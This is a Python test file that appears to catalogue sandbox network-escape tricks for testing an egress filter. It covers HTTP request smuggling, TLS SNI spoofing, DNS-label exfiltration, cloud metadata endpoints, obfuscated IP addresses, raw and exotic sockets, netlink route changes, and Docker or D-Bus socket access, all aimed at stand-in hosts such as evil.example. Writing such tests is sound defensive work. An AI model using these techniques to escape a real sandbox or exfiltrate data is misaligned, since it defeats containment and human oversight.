# ruff: noqa: E501 - a table
"""More ways to get out of a sandbox by its network: tricks of protocols, addresses and sockets."""

from tests.support.egress_ways import Way

# What runs inside, beside ``egress_ways.GUEST``.
GUEST = r"""
import ctypes, os

def plain(*lines, port=80, at='good.example', end='\r\n\r\n', body=''):
    return say(at, port, ('\r\n'.join(lines) + end + body).encode('latin-1'))

FINE = 'Host: good.example'
EVIL = 'GET /MARK HTTP/1.1\r\nHost: evil.example\r\n\r\n'

def post(*fields, body='', version='1.1'):
    return plain(f'POST /MARK HTTP/{version}', FINE, *fields, body=body)

def chunked(body):
    return post('Transfer-Encoding: chunked', body=body)

def behind(first, *pieces):
    return say('good.example', 80, first.encode(), *[one.encode() for one in (*pieces, EVIL)], pause=.3)

def vector(data, size=2):
    return len(data).to_bytes(size, 'big') + data

def named(*names, kind=0):
    return vector(b''.join(bytes([kind]) + vector(one) for one in names))

def message(*extensions, kind=1):
    inner = b''.join(number.to_bytes(2, 'big') + vector(data) for number, data in extensions)
    body = b'\3\3' + bytes(32) + b'\0' + vector(b'\x13\1') + b'\1\0' + (vector(inner) if inner else b'')
    return bytes([kind]) + vector(body, 3)

def record(data, kind=22, version=b'\3\1'):
    return bytes([kind]) + version + vector(data)

def sni(name, **how):
    return message((0, named(name.encode('latin-1'), **how)))

def hello_of(name):
    return record(sni(name))

def retried(change, name='retry.example', port=None):
    # OpenSSL writes both; what the first one asks for is exchanged, for a name as long.
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    come, go = ssl.MemoryBIO(), ssl.MemoryBIO()
    wanted = (own.mark.decode() + '.evil.example')[:len(name)]
    made = context.wrap_bio(come, go, server_hostname=wanted)
    with socket.create_connection((name, port), timeout=5) as plain:
        for number in range(2):
            try:
                made.do_handshake()
            except ssl.SSLWantReadError:
                pass
            said = go.read()
            if number:
                for piece in change(said, wanted.encode()):
                    plain.sendall(piece)
                    time.sleep(.2)
            else:
                plain.sendall(said.replace(wanted.encode(), name.encode()))
                come.write(plain.recv(65536))
        return heard(plain, 2)

def opens(*what):
    with socket.socket(*what):
        return 'CANARY'

def calls(number, *words):
    libc = ctypes.CDLL(None, use_errno=True)
    return 'CANARY' if libc.syscall(number, *words) >= 0 else os.strerror(ctypes.get_errno())

def datagram(host, port, data, family=socket.AF_INET, *options):
    with socket.socket(family, socket.SOCK_DGRAM) as made:
        made.settimeout(1)
        for option in options:
            made.setsockopt(*option)
        made.connect((host, port))
        made.send(data)
        return made.recv(65536).decode('latin-1')

def with_option(*option, host, port, family=socket.AF_INET):
    with socket.socket(family) as made:
        made.settimeout(4)
        made.setsockopt(*option)
        made.connect((host, port))
        made.sendall(b'MARK')
        return heard(made, 2)

def unix(path):
    with socket.socket(socket.AF_UNIX) as made:
        made.connect(path)
        return 'CANARY'

def kernel(protocol, data):
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, protocol) as made:
        made.bind((0, 0))
        made.settimeout(2)
        made.send(data)
        told = made.recv(9999)
        kind, = struct.unpack_from('=H', told, 4)
        number, = struct.unpack_from('=i', told, 16)
        return os.strerror(-number) if kind == 2 and number else 'CANARY'
"""

_NO_ADDRESS, _ANOTHER = "no rule names the address", "request for another host"
_NO_NAME, _DATAGRAMS = "no rule names it", "datagrams"


def _raw(request: str, reason: str) -> Way:
    """A request on a port of which nobody knows what is spoken there."""
    return Way(f"say('raw.example', {{raw}}, {request})", reason)


def _hello(code: str, reason: str) -> Way:
    return Way(f"say('good.example', 443, {code})", reason)


_HTTP = {
    "tabs in the first line": Way("plain('GET\\t/MARK\\tHTTP/1.1', FINE)", "no request"),
    "two blanks in the first line": Way("plain('GET  /MARK HTTP/1.1', FINE)", "no request"),
    "a word behind the version": Way("plain('GET /MARK HTTP/1.1 HTTP/1.1', FINE)", "no request"),
    "HTTP/1.2": Way("plain('GET /MARK HTTP/1.2', FINE)", "another version"),
    "small http": Way("plain('GET /MARK http/1.1', FINE)", "another version"),
    "ICY": Way("plain('SOURCE /MARK ICE/1.0', FINE)", "another version"),
    "Host in two cases": Way("get('good.example', '/MARK', 'hOsT: evil.example')", "2 fields Host"),
    "Host of another first": Way("plain('GET /MARK HTTP/1.1', 'Host: evil.example', FINE)", "2 fields Host"),
    "Host behind a vertical tab": Way("plain('GET /MARK HTTP/1.1', 'Host:\\x0bevil.example')", "names none"),
    "an empty Host": Way("plain('GET /MARK HTTP/1.1', 'Host:')", _ANOTHER),
    "Host in brackets": Way("get('[::1]', '/MARK', at='good.example')", "names none"),
    "Host with two ports": Way("get('good.example:80:8080', '/MARK', at='good.example')", "names none"),
    "Host with a port that overflows": Way("get('good.example:65616', '/MARK', at='good.example')", _ANOTHER),
    "Host in percents": Way("get('evil%2eexample', '/MARK', at='good.example')", "names none"),
    "Host behind a return": Way("plain('GET /MARK HTTP/1.1', 'X: y\\rHost: evil.example', FINE)", "line's end"),
    "Host in pieces": Way("say('good.example', 80, b'GET /MARK HTTP/1.1\\r\\nHost: good.example', b'.evil.example\\r\\n\\r\\n', pause=.5)", _ANOTHER),
    "an underscore for a hyphen": Way("post('Transfer_Encoding: chunked', body='0\\r\\n\\r\\n' + EVIL)", _ANOTHER),
    "absolute form with a backslash": Way("get('good.example', '/MARK', target='http://good.example\\\\@evil.example/MARK')", "does not say"),
    "absolute form with a fragment": Way("get('good.example', '/MARK', target='http://good.example#@evil.example/MARK')", "does not say"),
    "absolute form of https": Way("get('good.example', '/MARK', target='https://good.example/MARK')", "does not say"),
    "absolute form without slashes": Way("get('good.example', '/MARK', target='http:evil.example/MARK')", "does not say"),
    "absolute form of ftp": Way("get('good.example', '/MARK', target='ftp://evil.example/MARK')", "does not say"),
    "absolute form with a port": Way("get('good.example', '/MARK', target='http://good.example:8080/MARK')", "does not say"),
    "authority form": Way("get('good.example', '/MARK', target='evil.example:80')", "does not say"),
    "a target without a slash": Way("get('good.example', '/MARK', target='MARK')", "does not say"),
    "small connect": Way("plain('connect good.example:443 HTTP/1.1', FINE, 'X: MARK')", "tunnel"),
    "WebSocket": Way("get('good.example', '/MARK', 'Connection: Upgrade', 'Upgrade: websocket', 'Sec-WebSocket-Version: 13')", "Upgrade"),
    "TLS by Upgrade": Way("get('good.example', '/MARK', 'Connection: Upgrade', 'Upgrade: TLS/1.0')", "Upgrade"),
    "Upgrade with a blank": Way("get('good.example', '/MARK', 'Upgrade : h2c')", "a field that is none"),
    "Host in a trailer": Way("chunked('0\\r\\nHost: evil.example\\r\\n\\r\\n')", "fields behind a body"),
    "a coding, then a length": Way("post('Transfer-Encoding: chunked', 'Content-Length: 5', body='0\\r\\n\\r\\n' + EVIL)", "two lengths"),
    "two codings": Way("post('Transfer-Encoding: identity', 'Transfer-Encoding: chunked', body='0\\r\\n\\r\\n' + EVIL)", "two lengths"),
    "codings in a list": Way("post('Transfer-Encoding: identity, chunked', body='0\\r\\n\\r\\n' + EVIL)", "not chunked"),
    "chunked twice": Way("post('Transfer-Encoding: chunked, chunked', body='0\\r\\n\\r\\n' + EVIL)", "not chunked"),
    "a coding in quotes": Way("post('Transfer-Encoding: \"chunked\"', body='0\\r\\n\\r\\n' + EVIL)", "not chunked"),
    "a coding behind a vertical tab": Way("post('Transfer-Encoding:\\x0bchunked', body='0\\r\\n\\r\\n' + EVIL)", "not chunked"),
    "a folded coding": Way("post('Transfer-Encoding:', ' chunked', body='0\\r\\n\\r\\n' + EVIL)", "a field that is none"),
    "a coding with a blank": Way("post('Transfer-Encoding : chunked', body='0\\r\\n\\r\\n' + EVIL)", "a field that is none"),
    "chunks of HTTP/1.0": Way("post('Transfer-Encoding: chunked', body='0\\r\\n\\r\\n' + EVIL, version='1.0')", "not chunked"),
    "the same length twice": Way("post('Content-Length: 3', 'Content-Length: 3', body='abc')", "two lengths"),
    "a negative length": Way("post('Content-Length: -1', body=EVIL)", "length that is none"),
    "a hexadecimal length": Way("post('Content-Length: 0x3', body='abc')", "length that is none"),
    "a length with an underscore": Way("post('Content-Length: 1_0', body='abc')", "length that is none"),
    "a length that overflows": Way("post('Content-Length: 18446744073709551619', body='abc' + EVIL)", "length that is none"),
    "a chunk's hexadecimal": Way("chunked('0x3\\r\\nabc\\r\\n0\\r\\n\\r\\n')", "chunk's length that is none"),
    "a chunk's sign": Way("chunked('+3\\r\\nabc\\r\\n0\\r\\n\\r\\n')", "chunk's length that is none"),
    "a chunk's length behind a blank": Way("chunked(' 3\\r\\nabc\\r\\n0\\r\\n\\r\\n')", "chunk's length that is none"),
    "a chunk's length that overflows": Way("chunked('10000000000000003\\r\\nabc\\r\\n0\\r\\n\\r\\n')", "chunk's length that is none"),
    "chunks ended by line feeds": Way("chunked('3\\nabc\\n0\\n\\n' + EVIL)", "line's end"),
    "a line feed in a chunk's extension": Way("chunked('3;x\\n\\r\\nabc\\r\\n0\\r\\n\\r\\n')", "line's end"),
    "a chunk longer than it says": Way("chunked('3\\r\\nabcd\\r\\n0\\r\\n\\r\\n')", "longer than it says"),
    "an endless chunk's extension": Way("chunked('3;' + 'x' * 999)", "has no end"),
    "after HEAD": Way("behind('HEAD /fine HTTP/1.1\\r\\nHost: good.example\\r\\n\\r\\n')", _ANOTHER),
    "after OPTIONS": Way("behind('OPTIONS * HTTP/1.1\\r\\nHost: good.example\\r\\n\\r\\n')", _ANOTHER),
    "after a GET with a body": Way("behind('GET /fine HTTP/1.1\\r\\nHost: good.example\\r\\nContent-Length: 3\\r\\n\\r\\nabc')", _ANOTHER),
    "after what was expected": Way("behind('POST /fine HTTP/1.1\\r\\nHost: good.example\\r\\nExpect: 100-continue\\r\\nContent-Length: 3\\r\\n\\r\\n', 'abc')", _ANOTHER),
    "after the connection was to close": Way("behind('GET /fine HTTP/1.1\\r\\nHost: good.example\\r\\nConnection: close\\r\\n\\r\\n')"),
    "a name that ends a request's head": Way("get('good.example\\n\\nGET /MARK HTTP/1.1', '/fine', at='good.example')", "line's end"),
    "a protocol of streams on an odd port": _raw("b'PLAY /MARK RTSP/1.0\\r\\nHost: evil.example\\r\\n\\r\\n'", "another version"),
    "a radio's protocol on an odd port": _raw("b'SOURCE /MARK ICE/1.0\\r\\nHost: evil.example\\r\\n\\r\\n'", "another version"),
    "no version on an odd port": _raw("b'PROPFIND /MARK\\r\\nHost: evil.example\\r\\n\\r\\n'", "no request"),
    "no version and a whole address on an odd port": _raw("b'REPORT http://evil.example/MARK\\r\\nHost: evil.example\\r\\n\\r\\n'", "no request"),
    "a long method on an odd port": _raw("b'A' * 99 + b' /MARK HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n'", _ANOTHER),
    "a proxy's line on an odd port": _raw("b'PROXY TCP4 10.0.0.1 10.0.0.2 1 80\\r\\nGET /MARK HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n'", "no request"),
    "a proxy's second line on an odd port": _raw("b'\\r\\n\\r\\n\\0\\r\\nQUIT\\n\\x20\\0\\0\\0GET /MARK HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n'", "no request"),
    "HTTP/2 on an odd port": _raw("b'PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\nMARK'", "another version"),
    "HTTP/2 in pieces on an odd port": _raw("b'PR', b'I * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\nMARK', pause=12", "came in pieces"),
    "CONNECT on an odd port": _raw("b'CONNECT evil.example:443 HTTP/1.1\\r\\nHost: raw.example\\r\\nX: MARK\\r\\n\\r\\n'", "tunnel"),
}  # fmt: skip

_TLS = {
    "SNI with a NUL": _hello("hello_of('good.example\\0.evil.example')", "TLS for another name"),
    "SNI of an address": _hello("hello_of('{own}')", "TLS for another name"),
    "SNI of other bytes": _hello("hello_of('good.ex\\xe4mple')", "a name that is none"),
    "SNI in Punycode": _hello("hello_of('xn--good-l1a.example')", "TLS for another name"),
    "SNI with a dot before": _hello("hello_of('.good.example')", "TLS for another name"),
    "SNI with two dots": _hello("hello_of('good.example..')", "TLS for another name"),
    "SNI with a port": _hello("hello_of('good.example:443')", "TLS for another name"),
    "SNI with a star": _hello("hello_of('*.example')", "TLS for another name"),
    "SNI with a blank": _hello("hello_of('good.example ')", "TLS for another name"),
    "an empty SNI": _hello("hello_of('')", "TLS for another name"),
    "SNI of another kind": _hello("record(sni('good.example', kind=1))", "name of another kind"),
    "two names in SNI": _hello("record(message((0, named(b'good.example', b'evil.example'))))", "more in a ClientHello"),
    "SNI twice": _hello("record(message((0, named(b'good.example')), (0, named(b'evil.example'))))", "an extension twice"),
    "something behind SNI": _hello("record(message((0, named(b'good.example') + b'evil')))", "more in a ClientHello"),
    "no extensions": _hello("record(message())", "TLS without a name"),
    "an encrypted name": _hello("record(message((0, named(b'good.example')), (0xfe0d, b'MARK')))", "encrypted (ECH)"),
    "an encrypted name on an odd port": _raw("record(message((0, named(b'raw.example')), (0xfe0d, b'MARK')))", "encrypted (ECH)"),
    "no name on an odd port": _raw("record(message((13, b'MARK')))", "TLS without a name"),
    "two hellos in a record": _hello("record(sni('good.example') + sni('evil.example'))", "something behind"),
    "another message first": _hello("record(message((0, named(b'good.example')), kind=2))", "no ClientHello"),
    "another record first": _hello("record(b'\\1', kind=20) + hello_of('evil.example')", "no ClientHello"),
    "early data first": _hello("record(b'MARK', kind=23) + hello_of('good.example')", "no ClientHello"),
    "an empty record first": _hello("record(b'') + hello_of('evil.example')", "no ClientHello"),
    "a record too long": _hello("b'\\x16\\3\\1\\xff\\xff' + sni('evil.example')", "no ClientHello"),
    "a version that is none": _hello("record(sni('evil.example'), version=b'\\2\\0')", "no ClientHello"),
    "a hello without an end": _hello("*[record((b'' if n else b'\\1\\0\\xff\\xff') + b'x' * 16000) for n in range(5)]", "longer than any"),
    "SNI in records of a byte": _hello("b''.join(record(bytes([b])) for b in sni('evil.example'))", "TLS for another name"),
    "another SNI when asked again": Way("retried(lambda said, name: [said], port={retry})", "TLS for another name"),
    "another SNI behind early data": Way("retried(lambda said, name: [record(b'x' * 50, kind=23), said], port={retry})", "TLS for another name"),
    "another SNI when asked again, in pieces": Way("retried(lambda said, name: [said[:99], said[99:]], port={retry})", "TLS for another name"),
    "no SNI when asked again": Way("retried(lambda said, name: [record(message((13, b'MARK')))], port={retry})", "TLS without a name"),
    "no hello when asked again": Way("retried(lambda said, name: [record(b'MARK', kind=21)], port={retry})", "no ClientHello"),
    "DNS over HTTPS": Way("tls('1.1.1.1', 'cloudflare-dns.com', '/dns-query?dns=MARK')", _NO_ADDRESS),
    "DTLS": Way("udp('good.example', 443, b'\\x16\\xfe\\xfd' + bytes(8) + vector(sni('MARK.evil.example')))", _DATAGRAMS),
}  # fmt: skip

_NAMES = {
    "DNS, all kinds": Way("lookup('MARK.evil.example', kind=255)", _NO_NAME),
    "DNS, HTTPS of a name": Way("lookup('MARK.good.example', kind=65)", _NO_NAME),
    "DNS, service": Way("lookup('_MARK._tcp.evil.example', kind=33)", _NO_NAME),
    "DNS, mail": Way("lookup('MARK.evil.example', kind=15)", _NO_NAME),
    "DNS, aliases": Way("lookup('MARK.evil.example', kind=5)", _NO_NAME),
    "DNS, a whole zone": Way("lookup('MARK.evil.example', kind=252)", _NO_NAME),
    "DNS of another class": Way("udp('127.0.0.12', 53, question('version.bind', 16)[:-2] + b'\\0\\3')"),
    "DNS with long labels": Way("lookup('.'.join(['MARK' + 'a' * 50] * 4))", _NO_NAME),
    "DNS with a pointer": Way("udp('127.0.0.12', 53, b'\\1\\2\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\4MARK\\xc0\\x0c\\0\\1\\0\\1')"),
    "DNS in mixed cases": Way("lookup('gOoD.MARK.eViL.ExAmPlE')", _NO_NAME),
    "DNS notification": Way("udp('127.0.0.12', 53, b'\\1\\2\\x20\\0' + question('MARK.evil.example')[4:])"),
    "DNS of a star": Way("lookup('*.wild.example')", _NO_NAME),
    "DNS by TCP, twice": Way("say('127.0.0.12', 53, *[vector(question('MARK.evil.example'))] * 2)"),
    "DNS of systemd": Way("lookup('MARK.evil.example', at='127.0.0.53')"),
    "DNS over QUIC": Way("udp('9.9.9.9', 853, b'\\xc3\\0\\0\\0\\1MARK' + bytes(1200))", _DATAGRAMS),
    "a cloud's name": Way("get('metadata.google.internal', '/MARK')", _NO_NAME),
    "this machine's name": Way("get('host.docker.internal', '/MARK')", _NO_NAME),
    "this machine's other name": Way("get('host.containers.internal', '/MARK')", _NO_NAME),
    "a cluster's name": Way("get('kubernetes.default.svc', '/MARK')", _NO_NAME),
    "a name without dots": Way("get('evil', '/MARK')", _NO_NAME),
    "name at IPv6 metadata": Way("get('metadata6.example', '/MARK')", "metadata"),
    "name at a carrier's address": Way("get('carrier.example', '/MARK')", "no public address"),
    "name at a compatible address": Way("get('compatible.example', '/MARK')", "no public address"),
    "name at a Teredo address": Way("get('teredo.example', '/MARK')", "no public address"),
    "name at a link's address": Way("get('link.example', '/MARK')", "no public address"),
    "name at many": Way("get('many.example', '/MARK')", "no public address"),
    "name at this machine": Way("get('own.example', '/MARK')", "this machine's own"),
    "name at nobody's, then the canary": Way("get('second.example', '/MARK', at='second.example')"),
}  # fmt: skip


def _literal(host: str, port: str = "80", reason: str = _NO_ADDRESS) -> Way:
    return Way(f"say('{host}', {port}, b'MARK')", reason)


_ADDRESSES = {
    "IPv4-compatible": _literal("::{own}", "{port}"),
    "IPv4-translated": _literal("::ffff:0:{own}", "{port}"),
    "Teredo": _literal("2001:0:7f00:1::1"),
    "ISATAP": Way("say('fe80::5efe:{own}%1', 80, b'MARK')"),
    "unique local": _literal("fd00::1"),
    "a NAT64 of its own": _literal("64:ff9b:1::808:808"),
    "multicast, IPv6": Way("say('ff02::1%1', 80, b'MARK')"),
    "discarded": _literal("100::1"),
    "scope by number": Way("say('fe80::1%1', {port}, b'MARK')"),
    "mixed radixes": _literal("{mixed}", "{port}"),
    "wide digits": _literal("\\uff11\\uff10.0.0.1"),
    "short loopback": _literal("127.1", "{port}", ""),
    "loopback in octal": _literal("0177.0.0.1", "{port}", ""),
    "loopback of systemd": _literal("127.0.0.53", "53", ""),
    "loopback, mapped": _literal("::ffff:{canary}", "{port}", ""),
    "class E": _literal("240.0.0.1"),
    "broadcast, TCP": _literal("255.255.255.255", "{port}", ""),
    "carrier's": _literal("100.64.0.1"),
    "metadata of Azure": _literal("168.63.129.16"),
    "metadata of a task": _literal("169.254.170.2"),
    "metadata of Alibaba": _literal("100.100.100.200"),
    "metadata of Google, IPv6": _literal("fd20:ce::254"),
    "metadata in decimal": _literal("2852039166"),
    "metadata, mapped": _literal("::ffff:a9fe:a9fe"),
    "words in the SYN, IPv6": Way("socket.socket(10).sendto(b'MARK', 0x20000000, ('2606:2800:21f:cb07::1', 80))"),
    "active FTP": Way("say('raw.example', {raw}, b'PORT ' + '{own}'.replace('.', ',').encode() + b',%d,%d\\r\\n' % divmod({port}, 256))"),
    "NTP": Way("datagram('129.6.15.28', 123, b'\\x1bMARK' + bytes(43))", _DATAGRAMS),
    "STUN": Way("datagram('74.125.250.129', 19302, b'\\0\\1\\0\\0\\x21\\x12\\xa4\\x42MARK12345678')", _DATAGRAMS),
    "WireGuard": Way("datagram('{own}', 51820, b'\\1\\0\\0\\0MARK' + bytes(140))", _DATAGRAMS),
    "DHCP": Way("udp('255.255.255.255', 67, b'\\1\\1\\6\\0MARK' + bytes(240), broadcast=True)", _DATAGRAMS),
    "SSDP": Way("udp('239.255.255.250', 1900, b'M-SEARCH * HTTP/1.1\\r\\nX: MARK\\r\\n\\r\\n')", _DATAGRAMS),
    "mDNS, IPv6": Way("socket.socket(10, 2).sendto(b'MARK', ('ff02::fb', 5353, 0, 1))"),
    "UDP in fragments": Way("udp('{own}', {datagrams}, b'MARK' * 7000)", _DATAGRAMS),
    "UDP in segments": Way("datagram('{own}', {datagrams}, b'MARK' * 100, socket.AF_INET, (17, 103, 100))", _DATAGRAMS),
    "UDP, mapped": Way("datagram('::ffff:{own}', {datagrams}, b'MARK', socket.AF_INET6)", _DATAGRAMS),
    "UDP, source routed": Way("datagram('8.8.8.8', {datagrams}, b'MARK', socket.AF_INET, (0, 4, b'\\x89\\7\\4' + socket.inet_aton('{own}') + b'\\0'))"),
    "a routing header": Way("with_option(41, 57, bytes([0, 2, 0, 1, 0, 0, 0, 0]) + socket.inet_pton(10, '2606:2800:21f::1'), host='2606:2800:21f::2', port=80, family=socket.AF_INET6)"),
    "strict source routing": Way("with_option(0, 4, b'\\x89\\7\\4' + socket.inet_aton('{own}') + b'\\0', host='8.8.8.8', port={port})"),
    "another device": Way("with_option(1, 25, b'eth0', host='{own}', port={port})"),
    "an interface by number": Way("with_option(0, 50, (2).to_bytes(4, 'big'), host='{own}', port={port})"),
    "past all routes": Way("with_option(1, 5, 1, host='{own}', port={port})"),
}  # fmt: skip

_SOCKETS = {
    "ping, IPv6": Way("opens(10, 3, 58)"),
    "raw, IGMP": Way("opens(2, 3, 2)"),
    "raw, GRE": Way("opens(2, 3, 47)"),
    "raw, whole packets": Way("opens(2, 3, 255)"),
    "raw, IPv6": Way("opens(10, 3, 255)"),
    "packets of old": Way("opens(2, 10, 0x300)"),
    "L2TP": Way("opens(2, 2, 115)"),
    "SMC": Way("opens(43, 1, 0)"),
    "Bluetooth": Way("opens(31, 3, 1)"),
    "CAN": Way("opens(29, 3, 1)"),
    "TIPC": Way("opens(30, 2, 0)"),
    "RDS": Way("opens(21, 5, 0)"),
    "RxRPC": Way("opens(33, 2, 2)"),
    "AppleTalk": Way("opens(5, 2, 0)"),
    "PPP": Way("opens(24, 2, 0)"),
    "LLC": Way("opens(26, 1, 0)"),
    "KCM": Way("opens(41, 2, 0)"),
    "QRTR": Way("opens(42, 2, 0)"),
    "XDP": Way("opens(44, 3, 0)"),
    "MCTP": Way("opens(45, 2, 0)"),
    "keys of IPsec": Way("opens(15, 3, 2)"),
    "the kernel's ciphers": Way("opens(38, 5, 0)"),
    "a tunnel's device": Way("open('/dev/net/tun', 'r+b') and 'CANARY'"),
    "queued I/O": Way("calls(425, 8, ctypes.create_string_buffer(120))"),
    "a socket of another process": Way("calls(438, 3, 3, 0)"),
    "a program of the kernel's": Way("calls(321, 0, ctypes.create_string_buffer(120), 120)"),
    "a connection in repair": Way("[socket.socket().setsockopt(6, 19, 1)] and 'CANARY'"),
    "IPsec by netlink": Way("kernel(6, struct.pack('=IHHII', 16, 0x1c, 5, 1, 0))"),
    "the packet filter by netlink": Way("kernel(12, struct.pack('=IHHIIBBH', 20, 0x10, 1, 1, 0, 0, 0, 10) + struct.pack('=IHHIIBBH', 20, 0xa02, 5, 2, 0, 1, 0, 0) + struct.pack('=IHHIIBBH', 20, 0x11, 1, 3, 0, 0, 0, 10))"),
    "a route of its own": Way("kernel(0, struct.pack('=IHHIIBBBBBBBBIHHI', 36, 24, 0x605, 1, 0, 2, 0, 0, 0, 254, 3, 253, 1, 0, 8, 4, 1))"),
    "an address of its own": Way("kernel(0, struct.pack('=IHHIIBBBBIHH4s', 32, 20, 0x605, 1, 0, 2, 32, 0, 0, 1, 8, 2, b'\\x0a\\0\\0\\1'))"),
    "a socket of the host's without a file": Way("unix('\\0{abstract}')"),
    "the machine's bus": Way("unix('/run/dbus/system_bus_socket')"),
    "the machine's engine": Way("unix('/var/run/docker.sock')"),
    "the machine's first process": Way("unix('/run/systemd/private')"),
    "vsock to itself": Way("opens(40, 1, 0)"),
}  # fmt: skip

TRICKS = {**_HTTP, **_TLS, **_NAMES, **_ADDRESSES, **_SOCKETS}
